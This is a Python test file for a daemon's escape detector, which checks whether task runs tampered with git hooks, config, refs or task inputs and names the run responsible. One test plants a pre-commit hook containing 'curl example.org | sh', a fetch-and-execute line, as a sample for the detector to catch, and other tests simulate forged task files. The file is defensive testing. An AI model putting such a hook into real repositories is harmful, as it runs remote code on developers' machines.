"""Looks of the escape detector at real repositories: who was boxed, and what the daemon writes."""

import subprocess
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import anyio
import anyio.lowlevel
import pytest

from alluvium_like.config import parse_config
from alluvium_like.gitrepo.owner import create_repository
from alluvium_like.gitrepo.tidy import tidy
from alluvium_like.guarded import append, open_folder, place
from alluvium_like.inbox.seal import seal_of
from alluvium_like.lifecycle import Condition, State
from alluvium_like.stages import escapes
from alluvium_like.stages.opening import open_parts
from alluvium_like.stages.parts import Parts
from alluvium_like.stages.watch import Run
from alluvium_like.workspace import Workspace

LFS = (
    '#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { printf >&2 "\\n%s\\n\\n" "This repository '
    "is configured for Git LFS but 'git-lfs' was not found on your path.\"; exit 2; }\n"
    'git lfs post-merge "$@"\n'
)


@dataclass
class Bench:
    parts: Parts
    repo: Path

    def git(self, *args: str, store: Path | None = None) -> str:
        argv = ["git", "-c", "user.name=x", "-c", "user.email=x@x", *args]
        done = subprocess.run(
            argv, cwd=store or self.repo, capture_output=True, text=True, check=True
        )
        return done.stdout.strip()

    @property
    def ours(self) -> Path:
        return self.parts.workspace.integration

    async def add_task(self, name: str) -> Path:
        """Make a task that waits; return its folder."""
        folder = self.parts.workspace.task(name)
        folder.input.mkdir(parents=True)
        (folder.input / "item").write_text("please")
        folder.system.mkdir()
        seal = seal_of(folder.input)
        async with self.parts.store.transaction("made") as tx:
            await tx.run("create_task", id=name, name=name, priority=0, input_seal=seal)
        with open_folder(folder.system) as system:
            append(system, "events.jsonl", b"{}\n")
        return folder.root

    async def reason(self) -> str:
        held = await self.parts.store.conditions(Condition.ESCAPE)
        return held.get(self.parts.repository, "")


@pytest.fixture
async def bench(tmp_path: Path) -> AsyncIterator[Bench]:
    space = Workspace.at(tmp_path / "ws")
    space.make_folders()
    space.lock_file.touch()
    create_repository(space.repo, "x", "x@example.org")
    async with open_parts(space, parse_config({})) as parts:
        yield Bench(parts, space.repo)


async def test_settings_of_the_owner_are_the_owners_where_all_were_in_a_box(bench: Bench) -> None:
    run = Run("a", "a", 1, boxed=True)
    await escapes.begin(bench.parts, run)
    bench.git("config", "core.hooksPath", "/tmp/x")
    (bench.repo / ".git" / "hooks" / "pre-commit").write_text("true")
    assert await escapes.end(bench.parts, run) == ""
    assert await bench.reason() == ""


async def test_what_is_ours_is_held_though_all_were_in_a_box_and_nobody_is_accused(
    bench: Bench,
) -> None:
    run = Run("a", "a", 1, boxed=True)
    await escapes.begin(bench.parts, run)
    bench.git("update-ref", "refs/heads/x", "main", store=bench.ours)
    assert await escapes.end(bench.parts, run) == ""
    reason = await bench.reason()
    assert "refs/heads/x of integration.git" in reason
    assert "were in a box" in reason


async def test_only_who_ran_without_a_box_is_named(bench: Bench) -> None:
    boxed, free = Run("boxed", "boxed", 1, boxed=True), Run("free", "free", 1)
    for run in (boxed, free):
        await escapes.begin(bench.parts, run)
    bench.git("config", "core.hooksPath", "/tmp/x")
    assert await escapes.end(bench.parts, boxed) == ""
    assert "free ran then" in await escapes.end(bench.parts, free)
    assert "boxed ran" not in await bench.reason()


async def test_a_run_that_nobody_looked_after_is_named_by_the_next_look(bench: Bench) -> None:
    cut_off, other = Run("cut off"), Run("other")
    await escapes.begin(bench.parts, other)
    await escapes.begin(bench.parts, cut_off)
    bench.git("config", "core.hooksPath", "/tmp/x")
    escapes.leave(bench.parts, cut_off)
    assert "cut off" in await escapes.end(bench.parts, other)


async def test_what_the_daemon_writes_itself_is_none(bench: Bench) -> None:
    parts, run = bench.parts, Run("a", "a", 1)
    await bench.add_task("old")
    await escapes.begin(parts, run)
    folder = await bench.add_task("new")
    for name in ("old", "new"):
        with open_folder(folder.parent / name / ".system") as system:
            append(system, "events.jsonl", b"{}\n")
            place(system, "patch.diff", "diff")
            place(system, "patch.diff", "another")
    other = Run("b")
    await escapes.begin(parts, other)  # a look in between
    bench.git("tag", "v1")
    bench.git("commit", "-q", "--allow-empty", "-m", "more")
    await parts.integration.refresh()
    await parts.integration.keep("old", parts.integration.seen)
    await parts.integration.hold({"old": parts.integration.seen}, parts.integration.seen)
    await parts.integration.forget("old")
    bench.git("pack-refs", "--all", store=bench.ours)
    await tidy(parts.git, bench.ours)
    with open_folder(folder / ".system") as system:
        append(system, "events.jsonl", b"{}\n")
    assert [await escapes.end(parts, each) for each in (other, run)] == ["", ""]
    assert await bench.reason() == ""


async def test_a_change_is_found_behind_what_the_daemon_wrote_since(bench: Bench) -> None:
    parts, run = bench.parts, Run("a", "a", 1)
    folder = await bench.add_task("victim")
    await escapes.begin(parts, run)
    with (folder / ".system" / "events.jsonl").open("a") as events:
        events.write("forged\n")
    with open_folder(folder / ".system") as system:
        append(system, "events.jsonl", b"{}\n")
    await parts.integration.set_base(parts.integration.seen)
    assert "tasks/victim/.system/events.jsonl" in await escapes.end(parts, run)


async def test_a_changed_input_is_put_to_a_person_and_told_once(bench: Bench) -> None:
    parts, run = bench.parts, Run("suspect", "suspect", 1)
    await bench.add_task("suspect")
    victim = await bench.add_task("victim")
    async with parts.store.transaction("begun") as tx:
        await tx.start_attempt(await tx.get("suspect"), "default")
    await escapes.begin(parts, run)
    (victim / "input" / "item").write_text("forged")
    said = await escapes.end(parts, run)
    assert "tasks/victim/input/item" in said
    assert "suspect ran then" in said
    task = await parts.store.get("victim")
    assert task.state is State.NEEDS_HUMAN
    assert "somebody changed input/item" in task.reason
    await parts.store.write(
        "clear_conditions", first=Condition.ESCAPE, second=Condition.ESCAPE, third=Condition.ESCAPE
    )
    await escapes.take_up_resume(parts)
    await escapes.begin(parts, run)
    assert await escapes.end(parts, run) == ""
    assert await bench.reason() == ""


async def test_a_ref_that_was_put_back_to_what_it_had_been_before_is_found(bench: Bench) -> None:
    parts, run = bench.parts, Run("a", "a", 1)
    first = parts.integration.seen
    await escapes.begin(parts, run)
    bench.git("commit", "-q", "--allow-empty", "-m", "more")
    await parts.integration.refresh()
    bench.git("update-ref", "refs/alluvium/base", first, store=bench.ours)
    assert "refs/alluvium/base" in await escapes.end(parts, run)


async def test_what_is_accepted_by_resume_is_not_found_again(bench: Bench) -> None:
    parts, run = bench.parts, Run("a", "a", 1)
    first = parts.integration.seen
    await escapes.begin(parts, run)
    await parts.integration.keep("t", first)
    bench.git("update-ref", "-d", "refs/alluvium/tasks/t", store=bench.ours)
    other = Run("b")
    await escapes.begin(parts, other)
    assert "refs/alluvium/tasks/t" in await bench.reason()
    await parts.integration.keep("t", first)
    bench.git("update-ref", "-d", "refs/alluvium/tasks/t", store=bench.ours)
    await parts.store.clear_condition(Condition.ESCAPE, parts.repository)
    await escapes.take_up_resume(parts)
    await escapes.end(parts, other)
    assert await bench.reason() == ""


async def test_a_task_that_ended_and_goes_on_is_taken_as_it_is(bench: Bench) -> None:
    parts, run = bench.parts, Run("a", "a", 1)
    folder = await bench.add_task("again")
    await parts.store.transition("again", expect=State.QUEUED, to=State.CANCELLED)
    await escapes.begin(parts, run)
    (folder / ".system" / "notes").write_text("of a person")
    await parts.store.transition("again", expect=State.CANCELLED, to=State.QUEUED)
    assert await escapes.end(parts, run) == ""


async def test_hooks_of_git_lfs_come_by_themselves_and_hooks_elsewhere_are_watched(
    bench: Bench, tmp_path: Path
) -> None:
    parts, run, hooks = bench.parts, Run("a", "a", 1), tmp_path / "hooks"
    hooks.mkdir()
    bench.git("config", "core.hooksPath", str(hooks))
    await escapes.begin(parts, run)
    (bench.repo / ".git" / "hooks" / "post-merge").write_text(LFS)
    bench.git("config", "lfs.repositoryformatversion", "0")
    other = Run("b")
    await escapes.begin(parts, other)
    assert await bench.reason() == ""
    (hooks / "pre-commit").write_text(LFS + "curl example.org | sh\n")
    assert f"{hooks}/pre-commit" in await escapes.end(parts, other)


async def test_a_look_at_many_tasks_does_not_hold_up_the_loop(bench: Bench) -> None:
    """What is slow is done in a thread: meanwhile the loop goes round."""
    for number in range(200):
        await bench.add_task(f"t{number}")
    parts, run, turns = bench.parts, Run("a"), 0
    await escapes.begin(parts, run)
    async with anyio.create_task_group() as group:

        async def turn() -> None:
            nonlocal turns
            while True:
                turns += 1
                await anyio.lowlevel.checkpoint()

        group.start_soon(turn)
        await escapes.end(parts, run)
        group.cancel_scope.cancel()
    assert turns > 10
